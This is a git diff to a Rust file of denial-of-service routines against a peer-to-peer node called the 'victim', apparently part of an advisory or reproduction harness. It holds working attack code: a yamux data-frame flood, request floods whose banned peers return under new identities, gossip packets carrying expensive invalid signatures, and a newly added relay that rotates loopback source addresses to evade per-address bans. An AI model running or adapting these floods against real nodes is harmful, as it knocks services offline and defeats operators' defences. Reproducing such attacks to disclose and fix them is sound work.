@@ -7,7 +7,11 @@ use std::{
 
 use futures::future::join_all;
 use libp2p::{StreamProtocol, identity::Keypair};
-use tokio::{net::TcpSocket, time::sleep};
+use tokio::{
+    io::copy_bidirectional,
+    net::{TcpListener, TcpSocket},
+    time::sleep,
+};
 
 use crate::{
     advisories::{raw::Raw, yamux},
@@ -96,18 +100,19 @@ async fn unread(victim: SocketAddr) {
         }
     }
     in_full_swing();
-    loop {
-        for raw in &mut all {
-            for stream in (1..128).step_by(2) {
-                raw.write(&yamux::data(0, stream, &[7; 32 * 64])).await;
-            }
+    let frames: Vec<u8> = (1..128).step_by(2).flat_map(|stream| yamux::data(0, stream, &[7; 32 * 64])).collect();
+    let flooding = all.iter_mut().map(async |raw| {
+        loop {
+            raw.write(&frames).await;
+            sleep(PACE).await;
         }
-        sleep(PACE).await;
-    }
+    });
+    join_all(flooding).await;
 }
 
 /// Requests as fast as they go; who is banned comes back under another name.
 async fn requests(victim: &str) {
+    let victim = &disguised(victim).await;
     let peers = (0..10).map(async |_| {
         loop {
             if let Some(attacker) = Attacker::connect(victim).await {
@@ -124,8 +129,31 @@ async fn begun() {
     in_full_swing();
 }
 
-/// Gossip whose signatures take all the work of checking and are wrong: sixty to a packet.
+/// An address of the victim that leads there from one loopback address after the other, a new one for each connection.
+async fn disguised(victim: &str) -> String {
+    let (port, peer) = (Target::tcp_port_of(victim), victim.rsplit('/').next().unwrap().to_owned());
+    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
+    let here = listener.local_addr().unwrap().port();
+    tokio::spawn(async move {
+        for n in 0.. {
+            let Ok((mut near, _)) = listener.accept().await else { continue };
+            tokio::spawn(async move {
+                let socket = TcpSocket::new_v4().unwrap();
+                socket.set_reuseaddr(true).unwrap();
+                socket.bind(source(n % 1000)).unwrap();
+                if let Ok(mut far) = socket.connect(([127, 0, 0, 1], port).into()).await {
+                    let _ = far.set_nodelay(true);
+                    let _ = copy_bidirectional(&mut near, &mut far).await;
+                }
+            });
+        }
+    });
+    format!("/ip4/127.0.0.1/tcp/{here}/p2p/{peer}")
+}
+
+/// Gossip whose signatures take all the work of checking and are wrong: sixteen to a packet, the most that is read.
 async fn signatures(victim: &str) {
+    let victim = &disguised(victim).await;
     let author = Keypair::generate_ed25519().public().to_peer_id().to_bytes();
     let topic = format!("/quelea/{}/announce/3", network().short());
     let packet = || {
@@ -134,7 +162,7 @@ async fn signatures(victim: &str) {
             let body = [field(1, &author), field(2, &[7; 64]), field(3, &seqno), field(4, topic.as_bytes())].concat();
             field(2, &[body, field(5, &[9; 64])].concat())
         };
-        prefixed(&(0..60).flat_map(|_| message()).collect::<Vec<u8>>())
+        prefixed(&(0..16).flat_map(|_| message()).collect::<Vec<u8>>())
     };
     let peers = (0..4).map(async |_| {
         loop {
